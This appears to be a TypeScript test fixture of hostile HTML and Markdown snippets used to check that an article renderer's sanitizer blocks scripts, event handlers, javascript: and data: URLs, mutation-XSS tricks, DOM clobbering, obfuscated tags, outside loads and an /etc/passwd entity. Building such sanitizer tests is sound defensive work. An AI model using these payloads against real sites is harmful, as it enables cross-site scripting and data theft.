/** What each snippet does where it gets through: the name of what ran is left in the window. */
const ran = (what: string): string => `window.harmed='${what}'`;
const away = 'https://elsewhere.example';

/**
 * Hostile content of an article by the mechanism it tries, some ways each. None may run a script, make an error or ask
 * for anything elsewhere.
 */
export const hostileSnippets: Readonly<Record<string, readonly string[]>> = {
  'script element': [
    `<script>${ran('plain')}</script>`,
    `<SCRIPT type="module">${ran('module')}</SCRIPT>`,
    `<script src="${away}/a.js"></script>`,
    `<script\n>${ran('line')}</script\n>`,
  ],
  'script within a script': [
    `<scr<script>ipt>${ran('split')}</scr</script>ipt>`,
    `<script><script>${ran('twice')}</script></script>`,
    `<<script>${ran('bracket')}</script>`,
  ],
  'script that is not closed': [
    `<script>${ran('open')}`,
    `<script src=${away}/b.js`,
    `text <script x="</p>">${ran('attribute')}`,
  ],
  'script of another namespace': [
    `<svg><script>${ran('svg script')}</script></svg>`,
    `<svg><script href="data:text/javascript,${ran('href')}"/></svg>`,
    `<math><mtext><script>${ran('math')}</script></mtext></math>`,
  ],
  'handler of a picture': [
    `<img src=x onerror="${ran('error')}">`,
    `<img src="/favicon.svg" onload="${ran('load')}">`,
    `<img src=x:x onerror=${ran('bare')}>`,
    `<image src=x onerror="${ran('image')}">`,
  ],
  'handler that runs at once': [
    `<body onload="${ran('body')}">`,
    `<details open ontoggle="${ran('toggle')}"><summary>s</summary></details>`,
    `<input autofocus onfocus="${ran('focus')}">`,
    `<p tabindex=1 id=z onfocus="${ran('p focus')}" autofocus>p</p>`,
  ],
  'handler of an animation': [
    `<p style="animation:x" onanimationstart="${ran('animation')}">p</p>`,
    `<p onanimationend="${ran('end')}">p</p>`,
    `<p style="transition:all 1s" ontransitionend="${ran('transition')}">p</p>`,
  ],
  'handler of media': [
    `<video src=x onerror="${ran('video')}"></video>`,
    `<audio src=x onerror="${ran('audio')}"></audio>`,
    `<video><source onerror="${ran('source')}"></video>`,
  ],
  'handler of a drawing': [
    `<svg onload="${ran('svg')}"></svg>`,
    `<svg><g onload="${ran('g')}"></g></svg>`,
    `<svg><animate onbegin="${ran('begin')}" attributeName=x dur=1s></svg>`,
    `<svg><set onbegin="${ran('set')}" attributeName=x to=0></svg>`,
  ],
  'handler with odd separators': [
    `<img/src=x/onerror=${ran('stroke')}>`,
    `<img\tsrc=x\tonerror=${ran('tab')}>`,
    `<img src=x\u000conerror=${ran('feed')}>`,
    `<img src="x"onerror="${ran('none')}">`,
  ],
  'handler in capitals or entities': [
    `<img src=x OnErRoR="${ran('capitals')}">`,
    `<img src=x onerror="&#119;indow.harmed='entity'">`,
    `<img src=x &#111;nerror="${ran('name')}">`,
  ],
  'javascript address of a link': [
    `<a href="javascript:${ran('link')}">a</a>`,
    `[a](javascript:${ran('markdown')})`,
    `<javascript:${ran('autolink')}>`,
    `[a]: javascript:${ran('reference')}\n\n[a]`,
  ],
  'javascript address in disguise': [
    `<a href="java&#10;script:${ran('newline')}">a</a>`,
    `<a href=" &#1;javascript:${ran('control')}">a</a>`,
    `[a](&#106;avascript:${ran('entity')})`,
    `<a href="JaVaScRiPt&colon;${ran('colon')}">a</a>`,
  ],
  'address of data': [
    `<a href="data:text/html,<script>${ran('data')}</script>">a</a>`,
    `[a](data:text/html;base64,PHNjcmlwdD5hPC9zY3JpcHQ+)`,
    `<iframe src="data:text/html,<script>parent.harmed=1</script>"></iframe>`,
  ],
  'address of another kind': [
    `<a href="vbscript:x">a</a>`,
    `[a](file:///etc/passwd)`,
    `<a href="blob:${away}/x">a</a>`,
    `[a](view-source:${away})`,
  ],
  frame: [
    `<iframe src="${away}"></iframe>`,
    `<iframe srcdoc="<script>parent.harmed='srcdoc'</script>"></iframe>`,
    `<frameset><frame src="${away}"></frameset>`,
    `<iframe src="javascript:parent.harmed='frame'"></iframe>`,
  ],
  'object and plug-in': [
    `<object data="${away}/x.swf"></object>`,
    `<embed src="${away}/x.pdf">`,
    `<object data="javascript:${ran('object')}"></object>`,
    `<applet code=x archive="${away}/x.jar"></applet>`,
  ],
  'base of addresses': [
    `<base href="${away}/">`,
    `<base href="javascript:${ran('base')}//">`,
    `<base target="evil"><a href="/">a</a>`,
  ],
  'refresh and other meta': [
    `<meta http-equiv="refresh" content="0;url=${away}">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${ran('meta')}">`,
    `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
    `<meta name="referrer" content="unsafe-url">`,
  ],
  'style sheet': [
    `<style>@import "${away}/x.css";</style>`,
    `<style>p{background:url(${away}/p.png)}</style>`,
    `<link rel="stylesheet" href="${away}/x.css">`,
    `<link rel="preload" as="image" href="${away}/x.png">`,
  ],
  'style of an element': [
    `<p style="background:url(${away}/s.png)">p</p>`,
    `<p style="position:fixed;inset:0;z-index:9">over all</p>`,
    `<p style="behavior:url(x.htc)">p</p>`,
  ],
  'form and its controls': [
    `<form action="${away}"><button>Send</button></form>`,
    `<button formaction="javascript:${ran('button')}">b</button>`,
    `<input type="image" src="${away}/i.png">`,
    `<form id=f></form><button form=f formaction="${away}">b</button>`,
  ],
  'names that stand in for the document': [
    `<img name="querySelector">`,
    `<form name="body"></form>`,
    `<a id="cookie" name="cookie">a</a>`,
    `<img id="getElementById" name="getElementById">`,
  ],
  'ids the page has itself': [
    `<p id="main">p</p>`,
    `<h2 id="sources">s</h2>`,
    `## Sources`,
    `<p id="__proto__">p</p>`,
  ],
  template: [
    `<template><img src=x onerror="${ran('template')}"></template>`,
    `<template shadowrootmode="open"><script>${ran('shadow')}</script></template>`,
    `<slot onslotchange="${ran('slot')}"></slot>`,
  ],
  'elements of our own': [
    `<story-map data-map="${away}"></story-map>`,
    `<silklines-figure src="${away}/embed/x/"></silklines-figure>`,
    `<explorer-map onclick="${ran('own')}"></explorer-map>`,
  ],
  'attributes the renderer sets': [
    `<div data-figure="map" data-options="{&quot;x&quot;:1}"></div>`,
    `<span data-o="0">900 trains</span>`,
    `<div data-figure="after" data-options="&lt;script&gt;"></div>`,
  ],
  'markup that the browser mends': [
    `<p><table><td><img src=x onerror="${ran('table')}"></p>`,
    `<select><style></select><img src=x onerror="${ran('select')}"></style>`,
    `<svg></p><style><a id="</style><img src=x onerror=${ran('mended')}>">`,
  ],
  'markup that changes when read twice': [
    `<math><mi><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${ran('twice')}&gt;">`,
    `<noscript><p title="</noscript><img src=x onerror=${ran('noscript')}>"></noscript>`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${ran('form')}>`,
  ],
  'elements whose content is text': [
    `<textarea><img src=x onerror="${ran('textarea')}"></textarea>`,
    `<title><img src=x onerror="${ran('title')}"></title>`,
    `<xmp><img src=x onerror="${ran('xmp')}"></xmp>`,
    `<plaintext><script>${ran('plaintext')}</script>`,
  ],
  comment: [
    `<!--><script>${ran('comment')}</script>-->`,
    `<!-- --!><img src=x onerror="${ran('bang')}"> -->`,
    `<!--[if IE]><script>${ran('conditional')}</script><![endif]-->`,
  ],
  'declaration and processing instruction': [
    `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
    `<?xml-stylesheet href="${away}/x.xsl"?>`,
    `<![CDATA[<script>${ran('cdata')}</script>]]>`,
  ],
  'picture from elsewhere': [
    `<img src="${away}/a.png">`,
    `![a](${away}/b.png)`,
    `<img srcset="${away}/c.png 1x">`,
    `<picture><source srcset="${away}/d.png"><img src="/favicon.svg"></picture>`,
  ],
  'media from elsewhere': [
    `<video src="${away}/a.mp4" autoplay></video>`,
    `<video poster="${away}/p.png"></video>`,
    `<audio src="${away}/a.mp3" autoplay></audio>`,
    `<video><track src="${away}/t.vtt" default></video>`,
  ],
  'drawing from elsewhere': [
    `<svg><image href="${away}/a.png"/></svg>`,
    `<svg><use href="${away}/a.svg#x"/></svg>`,
    `<svg><foreignObject><iframe src="${away}"></iframe></foreignObject></svg>`,
    `<svg><a xlink:href="javascript:${ran('xlink')}"><text>a</text></a></svg>`,
  ],
  'hint to fetch ahead': [
    `<link rel="dns-prefetch" href="${away}">`,
    `<link rel="prerender" href="${away}">`,
    `<link rel="modulepreload" href="${away}/m.js">`,
    `<a href="${away}" ping="${away}/ping">a</a>`,
  ],
  'title of a link or picture': [
    `[a](/ "\\"><script>${ran('title')}</script>")`,
    `![a](/favicon.svg "x\\" onerror=\\"${ran('quoted')}")`,
    `![\\"><img src=x onerror=${ran('alt')}>](/favicon.svg)`,
  ],
  'address that ends its attribute': [
    `[a](/"onmouseover="${ran('mouse')})`,
    `<https://example.org/"onclick="${ran('click')}>`,
    `[a](</"><script>${ran('angle')}</script>>)`,
  ],
  'code and its language': [
    `\`\`\`"><script>${ran('fence')}</script>\nx\n\`\`\``,
    `\`<script>${ran('code')}</script>\``,
    `    <script>${ran('indented')}</script>`,
  ],
  'attributes of a directive': [
    `:fact[900 trains]{unit="<script>${ran('unit')}</script>"}`,
    `:fact[1<img src=x onerror=${ran('words')}>]{value=1}`,
    `::map{title="<img src=x onerror=${ran('map')}>"}`,
    `::chart{series="__proto__" title="\\"><script>${ran('chart')}</script>"}`,
  ],
  'directive nobody knows': [
    `:script[${ran('text')}]`,
    `::iframe{src="${away}"}`,
    `:::div{onclick="${ran('container')}"}\np\n:::`,
  ],
  footnote: [
    `[^<script>${ran('note')}</script>]`,
    `a[^a]\n\n[^a]: <img src=x onerror="${ran('footnote')}">`,
    `a[^__proto__]\n\n[^__proto__]: b`,
  ],
  'table of Markdown': [
    `| <script>${ran('head')}</script> |\n|---|\n| <img src=x onerror="${ran('cell')}"> |`,
    `| a |\n|---|\n| [a](javascript:${ran('cell link')}) |`,
    `| a |\n|--"><script>${ran('rule')}</script>|\n| b |`,
  ],
  'signs nobody sees': [
    `<scr\u0000ipt>${ran('null')}</scr\u0000ipt>`,
    `<img src=x on\u200berror="${ran('zero width')}">`,
    `\u202e<script>${ran('bidi')}</script>`,
    `<\u00adscript>${ran('soft')}</script>`,
  ],
  'signs of other widths': [
    `＜script＞${ran('wide')}＜/script＞`,
    `<ſcript>${ran('long s')}</ſcript>`,
    `<img src=x onerror＝"${ran('equals')}">`,
  ],
  'deep and long': [
    `${'<b>'.repeat(90)}x`,
    `${'> '.repeat(30)}<script>${ran('quote')}</script>`,
    `<p ${'data-x="1" '.repeat(200)}onclick="${ran('many')}">p</p>`,
    `[${'['.repeat(200)}a](javascript:${ran('brackets')})`,
  ],
};
